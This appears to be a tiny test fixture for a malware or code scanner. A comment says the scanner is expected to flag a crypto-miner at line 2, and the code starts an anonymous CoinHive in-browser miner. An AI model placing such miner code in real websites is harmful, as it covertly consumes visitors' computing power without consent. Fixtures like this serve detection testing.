// expect: crypto-miner 2:19
const miner = new CoinHive.Anonymous('SITE_KEY');
miner.start();
